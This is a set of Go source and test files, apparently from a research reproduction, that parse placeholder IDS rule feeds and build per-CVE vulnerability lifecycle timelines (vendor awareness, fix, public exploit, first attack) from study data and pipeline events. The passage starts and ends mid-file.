		t.Fatalf("got %d rules", len(out))
	}
}

// TestDedupSIDsConflictLoud: same sid + same rev + different text is a feed
// bug — loud error, deterministic winner independent of order.
func TestDedupSIDsConflictLoud(t *testing.T) {
	a := mustRule(t, ruleLine("variant-a", "aaa", 300, 2))
	b := mustRule(t, ruleLine("variant-b", "bbb", 300, 2))
	var winners []*Rule
	for _, in := range [][]*Rule{{a, b}, {b, a}} {
		out, errs := DedupSIDs(in)
		if len(errs) != 1 {
			t.Fatalf("want exactly one conflict error, got %v", errs)
		}
		if !strings.Contains(errs[0].Error(), "sid 300") {
			t.Errorf("conflict error should name the SID: %v", errs[0])
		}
		if len(out) != 1 {
			t.Fatalf("got %d rules", len(out))
		}
		winners = append(winners, out[0])
	}
	if winners[0] != winners[1] {
		t.Errorf("winner depends on input order: %q vs %q", winners[0].Raw, winners[1].Raw)
	}
}

// TestDedupDatedSIDsEarliestDate: identical rule text published twice keeps
// the earliest date (publication is first availability).
func TestDedupDatedSIDsEarliestDate(t *testing.T) {
	r := mustRule(t, ruleLine("dup", "ppp", 400, 1))
	early := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	late := early.AddDate(0, 6, 0)
	for _, in := range [][]DatedRule{
		{{Rule: r, Published: late}, {Rule: r, Published: early}},
		{{Rule: r, Published: early}, {Rule: r, Published: late}},
	} {
		out, errs := DedupDatedSIDs(in)
		if len(errs) != 0 {
			t.Fatalf("errors: %v", errs)
		}
		if len(out) != 1 || !out[0].Published.Equal(early) {
			t.Fatalf("kept %v, want earliest %v", out[0].Published, early)
		}
	}
}

// TestMergeDated covers the registry fold: delta replaces base unless its
// rev is strictly lower; new SIDs are added; output sorted by SID.
func TestMergeDated(t *testing.T) {
	t0 := time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC)
	base := []DatedRule{
		{Rule: mustRule(t, ruleLine("b1", "aaa", 10, 2)), Published: t0},
		{Rule: mustRule(t, ruleLine("b2", "bbb", 20, 1)), Published: t0},
	}
	delta := []DatedRule{
		{Rule: mustRule(t, ruleLine("d1", "ccc", 10, 1)), Published: t0},                  // stale: lower rev
		{Rule: mustRule(t, ruleLine("d2", "ddd", 20, 1)), Published: t0.AddDate(0, 1, 0)}, // same rev: delta wins (re-date)
		{Rule: mustRule(t, ruleLine("d3", "eee", 5, 1)), Published: t0},                   // new SID
	}
	out := MergeDated(base, delta)
	if len(out) != 3 {
		t.Fatalf("got %d rules", len(out))
	}
	if out[0].Rule.SID != 5 || out[1].Rule.SID != 10 || out[2].Rule.SID != 20 {
		t.Fatalf("not sorted by SID: %d %d %d", out[0].Rule.SID, out[1].Rule.SID, out[2].Rule.SID)
	}
	if out[1].Rule.Msg != "b1" {
		t.Errorf("stale lower rev rolled back sid 10: %q", out[1].Rule.Msg)
	}
	if out[2].Rule.Msg != "d2" {
		t.Errorf("delta should re-date sid 20: %q", out[2].Rule.Msg)
	}
}

// TestParseSetMalformed exercises the malformed-feed paths: each bad line
// must produce an error (not a panic, not a silent drop of the whole feed)
// while surrounding good rules still parse.
func TestParseSetMalformed(t *testing.T) {
	cases := []struct {
		name, line, wantErr string
	}{
		{"truncated line", `alert tcp any any -> any any (msg:"cut off`, "option parentheses"},
		{"truncated options", `alert tcp any any -> any any (msg:"cut off; sid:1; rev:1;)`, "unterminated quote"},
		{"unterminated pcre", `alert tcp any any -> any any (msg:"x"; pcre:"/abc"; sid:2; rev:1;)`, "pcre"},
		{"pcre no slashes", `alert tcp any any -> any any (msg:"x"; pcre:"abc"; sid:3; rev:1;)`, "pcre"},
		{"unterminated hex", `alert tcp any any -> any any (msg:"x"; content:"|41 42"; sid:4; rev:1;)`, "unterminated hex"},
		{"absurd depth", `alert tcp any any -> any any (msg:"x"; content:"a"; depth:99999999; sid:5; rev:1;)`, "out of range"},
		{"absurd within", `alert tcp any any -> any any (msg:"x"; content:"a"; content:"b"; within:70000; sid:6; rev:1;)`, "out of range"},
		{"negative offset", `alert tcp any any -> any any (msg:"x"; content:"a"; offset:-1; sid:7; rev:1;)`, "out of range"},
		{"absurd distance", `alert tcp any any -> any any (msg:"x"; content:"a"; content:"b"; distance:1000000; sid:8; rev:1;)`, "out of range"},
		{"missing sid", `alert tcp any any -> any any (msg:"x"; rev:1;)`, "missing sid"},
	}
	good := ruleLine("good", "ok", 9000, 1)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			feed := good + "\n" + tc.line + "\n" + ruleLine("good2", "ok2", 9001, 1) + "\n"
			out, errs := ParseSet(strings.NewReader(feed))
			if len(out) != 2 {
				t.Fatalf("good rules lost: got %d, want 2", len(out))
			}
			if len(errs) != 1 {
				t.Fatalf("want one error, got %v", errs)
			}
			if !strings.Contains(errs[0].Error(), tc.wantErr) {
				t.Errorf("error %q does not mention %q", errs[0], tc.wantErr)
			}
		})
	}
}

// TestBoundedModifiersAccepted: the 16-bit window edge values are legal.
func TestBoundedModifiersAccepted(t *testing.T) {
	for _, line := range []string{
		`alert tcp any any -> any any (msg:"x"; content:"a"; depth:65535; sid:1; rev:1;)`,
		`alert tcp any any -> any any (msg:"x"; content:"a"; offset:0; sid:2; rev:1;)`,
		`alert tcp any any -> any any (msg:"x"; content:"a"; content:"b"; distance:-65535; sid:3; rev:1;)`,
		`alert tcp any any -> any any (msg:"x"; content:"a"; content:"b"; within:65535; sid:4; rev:1;)`,
	} {
		if _, err := Parse(line); err != nil {
			t.Errorf("Parse(%q): %v", line, err)
		}
	}
}

// TestParseSet48kSmoke parses the full-scale synthetic corpus under a memory
// ceiling: the feed parser must stay linear at Talos scale.
func TestParseSet48kSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("48k parse in -short mode")
	}
	corpus := netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: 48000, Seed: 1})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	set, errs := ParseDatedSet(bytes.NewReader(corpus))
	for _, err := range errs {
		t.Fatalf("corpus parse error: %v", err)
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if len(set) < 46000 {
		// Deduped duplicates shrink it slightly below N; dropping below ~46k
		// means whole swathes failed to parse.
		t.Fatalf("only %d rules survived", len(set))
	}
	for i := 1; i < len(set); i++ {
		if set[i-1].Rule.SID >= set[i].Rule.SID {
			t.Fatalf("output not strictly SID-sorted at %d", i)
		}
	}
	grown := int64(after.HeapInuse) - int64(before.HeapInuse)
	const ceiling = 512 << 20
	if grown > ceiling {
		t.Fatalf("48k parse retained %d MiB, ceiling %d MiB", grown>>20, int64(ceiling)>>20)
	}
	t.Logf("48k parse: %d rules, heap growth %d MiB", len(set), grown>>20)
}
