// Package lifecycle assembles per-CVE vulnerability lifecycles: the six
// CERT-model events — Vendor awareness (V), Fix ready (F), Fix deployed (D),
// Public awareness (P), Exploit public (X), and Attacks (A) — with the
// paper's Section 5 heuristics:
//
//	V = earliest of public awareness, fix availability, or a known
//	    vendor-disclosure date (the IDS vendor's own reports);
//	F = IDS rule availability;
//	D = F, under the assumption of immediate rule installation;
//	P = public awareness per the Suciu et al. crawl;
//	X = public exploit availability per the same crawl;
//	A = first telescope-observed attack.
//
// Timelines come from two sources that must agree: the embedded Appendix E
// offsets (the paper's own measurements) and the live pipeline (telescope →
// IDS → events). Both produce the same Timeline type.
package lifecycle

import (
	"encoding/binary"
	"fmt"
	"sort"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
)

// EventType identifies one of the six lifecycle events.
type EventType int

// The six events of the CERT model.
const (
	VendorAware EventType = iota // V
	FixReady                     // F
	FixDeployed                  // D
	PublicAware                  // P
	ExploitPub                   // X
	Attacks                      // A
	numEvents
)

// Letter returns the event's single-letter name used in the paper.
func (e EventType) Letter() string {
	switch e {
	case VendorAware:
		return "V"
	case FixReady:
		return "F"
	case FixDeployed:
		return "D"
	case PublicAware:
		return "P"
	case ExploitPub:
		return "X"
	case Attacks:
		return "A"
	default:
		return "?"
	}
}

// String returns the event's descriptive name.
func (e EventType) String() string {
	switch e {
	case VendorAware:
		return "Vendor Awareness"
	case FixReady:
		return "Fix Ready"
	case FixDeployed:
		return "Fix Deployed"
	case PublicAware:
		return "Public Awareness"
	case ExploitPub:
		return "Exploit Public"
	case Attacks:
		return "Attacks"
	default:
		return fmt.Sprintf("EventType(%d)", int(e))
	}
}

// EventTypes lists the six events in canonical order.
func EventTypes() []EventType {
	return []EventType{VendorAware, FixReady, FixDeployed, PublicAware, ExploitPub, Attacks}
}

// Timeline is one CVE's lifecycle. Events the data cannot establish are
// absent (Known false).
type Timeline struct {
	CVE    string
	Events [numEvents]struct {
		Known bool
		At    time.Time
	}
	// Impact is the CVSS base score, carried for impact-stratified views.
	Impact float64
	// EventCount is the exploit-event volume attributed to the CVE.
	EventCount int
	// TalosDisclosed marks IDS-vendor-disclosed CVEs.
	TalosDisclosed bool
}

// Set records an event occurrence.
func (t *Timeline) Set(e EventType, at time.Time) {
	t.Events[e].Known = true
	t.Events[e].At = at
}

// Get returns the event time and whether it is known.
func (t *Timeline) Get(e EventType) (time.Time, bool) {
	return t.Events[e].At, t.Events[e].Known
}

// Diff returns the signed duration of b minus a when both are known.
func (t *Timeline) Diff(b, a EventType) (time.Duration, bool) {
	tb, okB := t.Get(b)
	ta, okA := t.Get(a)
	if !okA || !okB {
		return 0, false
	}
	return tb.Sub(ta), true
}

// Before reports whether event a strictly precedes event b; ok is false if
// either is unknown.
func (t *Timeline) Before(a, b EventType) (satisfied, ok bool) {
	ta, okA := t.Get(a)
	tb, okB := t.Get(b)
	if !okA || !okB {
		return false, false
	}
	return ta.Before(tb), true
}

// FromStudy builds the timeline of one Appendix E row using the paper's
// heuristics.
func FromStudy(c datasets.StudyCVE) Timeline {
	t := Timeline{
		CVE:            c.ID,
		Impact:         c.Impact,
		EventCount:     c.Events,
		TalosDisclosed: c.TalosDisclosed,
	}
	t.Set(PublicAware, c.Published)
	if c.DMinusP.Known {
		f := c.Published.Add(c.DMinusP.D)
		t.Set(FixReady, f)
		t.Set(FixDeployed, f) // immediate-installation assumption
	}
	if c.XMinusP.Known {
		t.Set(ExploitPub, c.Published.Add(c.XMinusP.D))
	}
	if c.AMinusP.Known {
		t.Set(Attacks, c.Published.Add(c.AMinusP.D))
	}
	// V is the earliest of P and F (disclosure dates beyond these are not
	// separately recorded in the appendix; for Talos-disclosed CVEs the
	// rule availability *is* the disclosure evidence).
	v := c.Published
	if f, ok := t.Get(FixReady); ok && f.Before(v) {
		v = f
	}
	t.Set(VendorAware, v)
	return t
}

// StudyTimelines builds timelines for all 63 study CVEs.
func StudyTimelines() []Timeline {
	cves := datasets.StudyCVEs()
	out := make([]Timeline, 0, len(cves))
	for _, c := range cves {
		out = append(out, FromStudy(c))
	}
	return out
}

// FromPipeline builds timelines from measured pipeline outputs: exploit
// events attributed by the IDS plus rule-publication times, joined with the
// study metadata for P and X. Only CVEs with observed traffic appear.
//
// It is a thin wrapper over Builder, so batch, incremental, and
// merged-partial aggregations cannot drift: any way of splitting events
// across builders yields the identical timeline set.
func FromPipeline(events []ids.Event, rulePub map[int]time.Time) []Timeline {
	b := NewBuilder()
	b.AddEvents(events, rulePub)
	return b.Timelines()
}

// Builder accumulates the per-CVE lifecycle aggregate incrementally: first
// attack time, event count, and earliest matched-rule publication. It is the
// event-derived half of FromPipeline in a form that supports streaming
// (AddEvents per batch), merging (partial aggregates combine), and
// checkpointing (AppendBinary/DecodeBuilder round-trip the state byte-
// deterministically) — the machinery the timeline subsystem's as-of
// snapshots are built on. The aggregate is a commutative monoid over event
// multisets: counts add, first-times take the minimum, so event order and
// batch boundaries never change the result.
type Builder struct {
	byCVE map[string]*pipelineAcc
}

type pipelineAcc struct {
	firstAttack time.Time
	count       int
	firstRule   time.Time
	hasRule     bool
}

// NewBuilder returns an empty builder.
func NewBuilder() *Builder { return &Builder{byCVE: map[string]*pipelineAcc{}} }

// AddEvents folds a batch of attributed events into the aggregate. rulePub
// maps SIDs to publication times, as in FromPipeline; unattributed events
// (no CVE) are ignored. A SID absent from rulePub falls back to the event's
// own Published stamp when set — registry-published rules are not in the
// static study map, but their events carry the journal's publication time.
func (b *Builder) AddEvents(events []ids.Event, rulePub map[int]time.Time) {
	for i := range events {
		ev := &events[i]
		if ev.CVE == "" {
			continue
		}
		a, ok := b.byCVE[ev.CVE]
		if !ok {
			a = &pipelineAcc{firstAttack: ev.Time}
			b.byCVE[ev.CVE] = a
		}
		if ev.Time.Before(a.firstAttack) {
			a.firstAttack = ev.Time
		}
		a.count++
		pub, ok := rulePub[ev.SID]
		if !ok && !ev.Published.IsZero() {
			pub, ok = ev.Published, true
		}
		if ok {
			if !a.hasRule || pub.Before(a.firstRule) {
				a.firstRule = pub
				a.hasRule = true
			}
		}
	}
}

// Merge folds another builder's aggregate into b — the result equals
// feeding both builders' events to one. o remains usable afterwards.
func (b *Builder) Merge(o *Builder) {
	for cve, oa := range o.byCVE {
		a, ok := b.byCVE[cve]
		if !ok {
			cp := *oa
			b.byCVE[cve] = &cp
			continue
		}
		if oa.firstAttack.Before(a.firstAttack) {
			a.firstAttack = oa.firstAttack
		}
		a.count += oa.count
		if oa.hasRule && (!a.hasRule || oa.firstRule.Before(a.firstRule)) {
			a.firstRule = oa.firstRule
			a.hasRule = true
		}
	}
}

// Clone returns an independent copy of the builder's state.
func (b *Builder) Clone() *Builder {
	c := NewBuilder()
	c.Merge(b)
	return c
}

// EventCount returns the number of attributed events folded in so far.
func (b *Builder) EventCount() int {
	n := 0
	for _, a := range b.byCVE {
		n += a.count
	}
	return n
}

// Timelines materializes the timeline set from the aggregate, applying the
// paper's Section 5 heuristics and the study metadata join, sorted by CVE —
// exactly FromPipeline's output for the accumulated events.
func (b *Builder) Timelines() []Timeline {
	var out []Timeline
	for cve, a := range b.byCVE {
		t := Timeline{CVE: cve, EventCount: a.count}
		if meta := datasets.StudyCVEByID(cve); meta != nil {
			t.Impact = meta.Impact
			t.TalosDisclosed = meta.TalosDisclosed
			t.Set(PublicAware, meta.Published)
			if meta.XMinusP.Known {
				t.Set(ExploitPub, meta.Published.Add(meta.XMinusP.D))
			}
		}
		t.Set(Attacks, a.firstAttack)
		if a.hasRule && a.firstRule.Before(neverPublishedCutoff) {
			t.Set(FixReady, a.firstRule)
			t.Set(FixDeployed, a.firstRule)
		}
		if p, ok := t.Get(PublicAware); ok {
			v := p
			if f, ok := t.Get(FixReady); ok && f.Before(v) {
				v = f
			}
			t.Set(VendorAware, v)
		}
		out = append(out, t)
	}
	sortTimelines(out)
	return out
}

// AppendBinary appends a deterministic binary encoding of the aggregate to
// buf (CVEs sorted; times as seconds+nanoseconds so the full time.Time range
// round-trips). DecodeBuilder reverses it.
func (b *Builder) AppendBinary(buf []byte) []byte {
	cves := make([]string, 0, len(b.byCVE))
	for cve := range b.byCVE {
		cves = append(cves, cve)
	}
	sort.Strings(cves)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(cves)))
	for _, cve := range cves {
		a := b.byCVE[cve]
		buf = binary.LittleEndian.AppendUint16(buf, uint16(len(cve)))
		buf = append(buf, cve...)
		buf = appendBinTime(buf, a.firstAttack)
		buf = binary.LittleEndian.AppendUint64(buf, uint64(a.count))
		if a.hasRule {
			buf = append(buf, 1)
			buf = appendBinTime(buf, a.firstRule)
		} else {
			buf = append(buf, 0)
		}
	}
	return buf
}

// DecodeBuilder decodes an AppendBinary encoding, returning the builder and
// the remaining bytes. It returns an error (never panics) on malformed
// input, since encodings come off disk.
func DecodeBuilder(raw []byte) (*Builder, []byte, error) {
	b := NewBuilder()
	need := func(n int) ([]byte, error) {
		if len(raw) < n {
			return nil, fmt.Errorf("lifecycle: aggregate encoding truncated (%d of %d bytes)", len(raw), n)
		}
		out := raw[:n]
		raw = raw[n:]
		return out, nil
	}
	nb, err := need(4)
	if err != nil {
		return nil, nil, err
	}
	for n := binary.LittleEndian.Uint32(nb); n > 0; n-- {
		lb, err := need(2)
		if err != nil {
			return nil, nil, err
		}
		cb, err := need(int(binary.LittleEndian.Uint16(lb)))
		if err != nil {
			return nil, nil, err
		}
		cve := string(cb)
		if _, dup := b.byCVE[cve]; dup {
			return nil, nil, fmt.Errorf("lifecycle: aggregate encoding repeats CVE %q", cve)
		}
		a := &pipelineAcc{}
		if a.firstAttack, err = decodeBinTime(need); err != nil {
			return nil, nil, err
		}
		countB, err := need(8)
		if err != nil {
			return nil, nil, err
		}
		a.count = int(binary.LittleEndian.Uint64(countB))
		hb, err := need(1)
		if err != nil {
			return nil, nil, err
		}
		switch hb[0] {
		case 1:
			a.hasRule = true
			if a.firstRule, err = decodeBinTime(need); err != nil {
				return nil, nil, err
			}
		case 0:
		default:
			return nil, nil, fmt.Errorf("lifecycle: aggregate encoding has bad hasRule byte %d", hb[0])
		}
		b.byCVE[cve] = a
	}
	return b, raw, nil
}

func appendBinTime(buf []byte, t time.Time) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(t.Unix()))
	return binary.LittleEndian.AppendUint32(buf, uint32(t.Nanosecond()))
}

func decodeBinTime(need func(int) ([]byte, error)) (time.Time, error) {
	b, err := need(12)
	if err != nil {
		return time.Time{}, err
	}
	sec := int64(binary.LittleEndian.Uint64(b[0:8]))
	nsec := binary.LittleEndian.Uint32(b[8:12])
	return time.Unix(sec, int64(nsec)).UTC(), nil
}

// neverPublishedCutoff separates real rule publications from the
// "never published during the study" sentinel used by the study ruleset.
var neverPublishedCutoff = time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC)

func sortTimelines(ts []Timeline) {
	sort.Slice(ts, func(i, j int) bool { return ts[i].CVE < ts[j].CVE })
}
