// Package lifecycle assembles per-CVE vulnerability lifecycles: the six
// CERT-model events — Vendor awareness (V), Fix ready (F), Fix deployed (D),
// Public awareness (P), Exploit public (X), and Attacks (A) — with the
// paper's Section 5 heuristics:
//
//	V = earliest of public awareness, fix availability, or a known
//	    vendor-disclosure date (the IDS vendor's own reports);
//	F = IDS rule availability;
//	D = F, under the assumption of immediate rule installation;
//	P = public awareness per the Suciu et al. crawl;
//	X = public exploit availability per the same crawl;
//	A = first telescope-observed attack.
//
// Timelines come from two sources that must agree: the embedded Appendix E
// offsets (the paper's own measurements) and the live pipeline (telescope →
// IDS → events). Both produce the same Timeline type.
package lifecycle

import (
	"fmt"
	"sort"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
)

// EventType identifies one of the six lifecycle events.
type EventType int

// The six events of the CERT model.
const (
	VendorAware EventType = iota // V
	FixReady                     // F
	FixDeployed                  // D
	PublicAware                  // P
	ExploitPub                   // X
	Attacks                      // A
	numEvents
)

// Letter returns the event's single-letter name used in the paper.
func (e EventType) Letter() string {
	switch e {
	case VendorAware:
		return "V"
	case FixReady:
		return "F"
	case FixDeployed:
		return "D"
	case PublicAware:
		return "P"
	case ExploitPub:
		return "X"
	case Attacks:
		return "A"
	default:
		return "?"
	}
}

// String returns the event's descriptive name.
func (e EventType) String() string {
	switch e {
	case VendorAware:
		return "Vendor Awareness"
	case FixReady:
		return "Fix Ready"
	case FixDeployed:
		return "Fix Deployed"
	case PublicAware:
		return "Public Awareness"
	case ExploitPub:
		return "Exploit Public"
	case Attacks:
		return "Attacks"
	default:
		return fmt.Sprintf("EventType(%d)", int(e))
	}
}

// EventTypes lists the six events in canonical order.
func EventTypes() []EventType {
	return []EventType{VendorAware, FixReady, FixDeployed, PublicAware, ExploitPub, Attacks}
}

// Timeline is one CVE's lifecycle. Events the data cannot establish are
// absent (Known false).
type Timeline struct {
	CVE    string
	Events [numEvents]struct {
		Known bool
		At    time.Time
	}
	// Impact is the CVSS base score, carried for impact-stratified views.
	Impact float64
	// EventCount is the exploit-event volume attributed to the CVE.
	EventCount int
	// TalosDisclosed marks IDS-vendor-disclosed CVEs.
	TalosDisclosed bool
}

// Set records an event occurrence.
func (t *Timeline) Set(e EventType, at time.Time) {
	t.Events[e].Known = true
	t.Events[e].At = at
}

// Get returns the event time and whether it is known.
func (t *Timeline) Get(e EventType) (time.Time, bool) {
	return t.Events[e].At, t.Events[e].Known
}

// Diff returns the signed duration of b minus a when both are known.
func (t *Timeline) Diff(b, a EventType) (time.Duration, bool) {
	tb, okB := t.Get(b)
	ta, okA := t.Get(a)
	if !okA || !okB {
		return 0, false
	}
	return tb.Sub(ta), true
}

// Before reports whether event a strictly precedes event b; ok is false if
// either is unknown.
func (t *Timeline) Before(a, b EventType) (satisfied, ok bool) {
	ta, okA := t.Get(a)
	tb, okB := t.Get(b)
	if !okA || !okB {
		return false, false
	}
	return ta.Before(tb), true
}

// FromStudy builds the timeline of one Appendix E row using the paper's
// heuristics.
func FromStudy(c datasets.StudyCVE) Timeline {
	t := Timeline{
		CVE:            c.ID,
		Impact:         c.Impact,
		EventCount:     c.Events,
		TalosDisclosed: c.TalosDisclosed,
	}
	t.Set(PublicAware, c.Published)
	if c.DMinusP.Known {
		f := c.Published.Add(c.DMinusP.D)
		t.Set(FixReady, f)
		t.Set(FixDeployed, f) // immediate-installation assumption
	}
	if c.XMinusP.Known {
		t.Set(ExploitPub, c.Published.Add(c.XMinusP.D))
	}
	if c.AMinusP.Known {
		t.Set(Attacks, c.Published.Add(c.AMinusP.D))
	}
	// V is the earliest of P and F (disclosure dates beyond these are not
	// separately recorded in the appendix; for Talos-disclosed CVEs the
	// rule availability *is* the disclosure evidence).
	v := c.Published
	if f, ok := t.Get(FixReady); ok && f.Before(v) {
		v = f
	}
	t.Set(VendorAware, v)
	return t
}

// StudyTimelines builds timelines for all 63 study CVEs.
func StudyTimelines() []Timeline {
	cves := datasets.StudyCVEs()
	out := make([]Timeline, 0, len(cves))
	for _, c := range cves {
		out = append(out, FromStudy(c))
	}
	return out
}

// FromPipeline builds timelines from measured pipeline outputs: exploit
// events attributed by the IDS plus rule-publication times, joined with the
// study metadata for P and X. Only CVEs with observed traffic appear.
func FromPipeline(events []ids.Event, rulePub map[int]time.Time) []Timeline {
	type acc struct {
		firstAttack time.Time
		count       int
		firstRule   time.Time
		hasRule     bool
	}
	byCVE := map[string]*acc{}
	for _, ev := range events {
		if ev.CVE == "" {
			continue
		}
		a, ok := byCVE[ev.CVE]
		if !ok {
			a = &acc{firstAttack: ev.Time}
			byCVE[ev.CVE] = a
		}
		if ev.Time.Before(a.firstAttack) {
			a.firstAttack = ev.Time
		}
		a.count++
		if pub, ok := rulePub[ev.SID]; ok {
			if !a.hasRule || pub.Before(a.firstRule) {
				a.firstRule = pub
				a.hasRule = true
			}
		}
	}
	var out []Timeline
	for cve, a := range byCVE {
		t := Timeline{CVE: cve, EventCount: a.count}
		if meta := datasets.StudyCVEByID(cve); meta != nil {
			t.Impact = meta.Impact
			t.TalosDisclosed = meta.TalosDisclosed
			t.Set(PublicAware, meta.Published)
			if meta.XMinusP.Known {
				t.Set(ExploitPub, meta.Published.Add(meta.XMinusP.D))
			}
		}
		t.Set(Attacks, a.firstAttack)
		if a.hasRule && a.firstRule.Before(neverPublishedCutoff) {
			t.Set(FixReady, a.firstRule)
			t.Set(FixDeployed, a.firstRule)
		}
		if p, ok := t.Get(PublicAware); ok {
			v := p
			if f, ok := t.Get(FixReady); ok && f.Before(v) {
				v = f
			}
			t.Set(VendorAware, v)
		}
		out = append(out, t)
	}
	sortTimelines(out)
	return out
}

// neverPublishedCutoff separates real rule publications from the
// "never published during the study" sentinel used by the study ruleset.
var neverPublishedCutoff = time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC)

func sortTimelines(ts []Timeline) {
	sort.Slice(ts, func(i, j int) bool { return ts[i].CVE < ts[j].CVE })
}
