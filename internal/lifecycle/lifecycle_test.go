package lifecycle

import (
	"testing"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
)

func TestEventTypeNames(t *testing.T) {
	letters := map[EventType]string{
		VendorAware: "V", FixReady: "F", FixDeployed: "D",
		PublicAware: "P", ExploitPub: "X", Attacks: "A",
	}
	for e, want := range letters {
		if got := e.Letter(); got != want {
			t.Errorf("%v.Letter() = %q, want %q", e, got, want)
		}
	}
	if VendorAware.String() != "Vendor Awareness" {
		t.Errorf("String() = %q", VendorAware.String())
	}
	if len(EventTypes()) != 6 {
		t.Errorf("EventTypes = %d", len(EventTypes()))
	}
}

func TestTimelineSetGetDiff(t *testing.T) {
	var tl Timeline
	if _, ok := tl.Get(Attacks); ok {
		t.Error("empty timeline claims known event")
	}
	p := time.Date(2021, 12, 10, 0, 0, 0, 0, time.UTC)
	a := p.Add(13 * time.Hour)
	tl.Set(PublicAware, p)
	tl.Set(Attacks, a)
	if d, ok := tl.Diff(Attacks, PublicAware); !ok || d != 13*time.Hour {
		t.Errorf("Diff = %v/%v", d, ok)
	}
	if _, ok := tl.Diff(Attacks, FixReady); ok {
		t.Error("Diff with unknown event reported ok")
	}
	if sat, ok := tl.Before(PublicAware, Attacks); !ok || !sat {
		t.Errorf("Before = %v/%v", sat, ok)
	}
	if _, ok := tl.Before(FixReady, Attacks); ok {
		t.Error("Before with unknown event reported ok")
	}
}

func TestFromStudyLog4Shell(t *testing.T) {
	c := datasets.StudyCVEByID("2021-44228")
	tl := FromStudy(*c)
	p, _ := tl.Get(PublicAware)
	if !p.Equal(c.Published) {
		t.Errorf("P = %v", p)
	}
	f, okF := tl.Get(FixReady)
	d, okD := tl.Get(FixDeployed)
	if !okF || !okD || !f.Equal(d) {
		t.Error("F and D should both be set and equal (immediate install)")
	}
	if got := f.Sub(p); got != 19*time.Hour {
		t.Errorf("F-P = %v, want 19h", got)
	}
	a, _ := tl.Get(Attacks)
	if got := a.Sub(p); got != 13*time.Hour {
		t.Errorf("A-P = %v, want 13h", got)
	}
	x, _ := tl.Get(ExploitPub)
	if got := x.Sub(p); got != 4*24*time.Hour {
		t.Errorf("X-P = %v, want 4d", got)
	}
	// V = min(P, F) = P here.
	v, _ := tl.Get(VendorAware)
	if !v.Equal(p) {
		t.Errorf("V = %v, want P", v)
	}
}

func TestFromStudyVendorFirst(t *testing.T) {
	// Talos-disclosed CVE with F long before P: V must equal F.
	c := datasets.StudyCVEByID("2021-21799")
	tl := FromStudy(*c)
	v, _ := tl.Get(VendorAware)
	f, _ := tl.Get(FixReady)
	p, _ := tl.Get(PublicAware)
	if !v.Equal(f) || !v.Before(p) {
		t.Errorf("V = %v, want F (%v) before P (%v)", v, f, p)
	}
	if !tl.TalosDisclosed {
		t.Error("TalosDisclosed not carried")
	}
}

func TestFromStudyMissingEvents(t *testing.T) {
	c := datasets.StudyCVEByID("2022-44877") // no D, X, or A in the appendix
	tl := FromStudy(*c)
	if _, ok := tl.Get(FixReady); ok {
		t.Error("F should be unknown")
	}
	if _, ok := tl.Get(ExploitPub); ok {
		t.Error("X should be unknown")
	}
	if _, ok := tl.Get(Attacks); ok {
		t.Error("A should be unknown")
	}
	if _, ok := tl.Get(PublicAware); !ok {
		t.Error("P should be known")
	}
}

func TestStudyTimelinesCount(t *testing.T) {
	tls := StudyTimelines()
	if len(tls) != 63 {
		t.Fatalf("timelines = %d, want 63", len(tls))
	}
}

func TestFromPipeline(t *testing.T) {
	p := time.Date(2021, 9, 22, 0, 0, 0, 0, time.UTC) // Hikvision publication
	rulePub := map[int]time.Time{
		900027: p.Add(49*24*time.Hour + 21*time.Hour),
	}
	events := []ids.Event{
		{Time: p.Add(40 * 24 * time.Hour), CVE: "2021-36260", SID: 900027},
		{Time: p.Add(30*24*time.Hour + 4*time.Hour), CVE: "2021-36260", SID: 900027},
		{Time: p.Add(100 * 24 * time.Hour), CVE: "2021-36260", SID: 900027},
		{Time: p, CVE: "", SID: 0}, // noise must be ignored
	}
	tls := FromPipeline(events, rulePub)
	if len(tls) != 1 {
		t.Fatalf("timelines = %d, want 1", len(tls))
	}
	tl := tls[0]
	if tl.CVE != "2021-36260" {
		t.Errorf("CVE = %s", tl.CVE)
	}
	if tl.EventCount != 3 {
		t.Errorf("EventCount = %d, want 3", tl.EventCount)
	}
	a, _ := tl.Get(Attacks)
	if got := a.Sub(p); got != 30*24*time.Hour+4*time.Hour {
		t.Errorf("A-P = %v, want 30d4h (earliest event)", got)
	}
	d, _ := tl.Get(FixDeployed)
	if got := d.Sub(p); got != 49*24*time.Hour+21*time.Hour {
		t.Errorf("D-P = %v", got)
	}
	// P and impact joined from study metadata.
	gotP, ok := tl.Get(PublicAware)
	if !ok || !gotP.Equal(p) {
		t.Errorf("P = %v/%v", gotP, ok)
	}
	if tl.Impact != 9.8 {
		t.Errorf("Impact = %v", tl.Impact)
	}
}

func TestFromPipelineNeverPublishedRule(t *testing.T) {
	rulePub := map[int]time.Time{
		900044: time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC), // sentinel
	}
	events := []ids.Event{
		{Time: time.Date(2022, 4, 2, 0, 0, 0, 0, time.UTC), CVE: "2022-22965", SID: 900044},
	}
	tls := FromPipeline(events, rulePub)
	if len(tls) != 1 {
		t.Fatalf("timelines = %d", len(tls))
	}
	if _, ok := tls[0].Get(FixDeployed); ok {
		t.Error("sentinel publication should leave D unknown")
	}
}

// Pipeline-derived timelines must agree with the appendix-derived ones on
// the events both can see, when the pipeline input is the calibrated
// workload's ground truth.
func TestPipelineAgreesWithStudy(t *testing.T) {
	studyTl := map[string]Timeline{}
	for _, tl := range StudyTimelines() {
		studyTl[tl.CVE] = tl
	}
	p := datasets.StudyCVEByID("2021-41773")
	rulePub := map[int]time.Time{900029: p.Published.Add(p.DMinusP.D)}
	events := []ids.Event{
		{Time: p.Published.Add(p.AMinusP.D), CVE: p.ID, SID: 900029},
	}
	got := FromPipeline(events, rulePub)[0]
	want := studyTl[p.ID]
	for _, e := range EventTypes() {
		gw, okW := want.Get(e)
		gg, okG := got.Get(e)
		if e == ExploitPub || !okW {
			continue
		}
		if !okG || !gg.Equal(gw) {
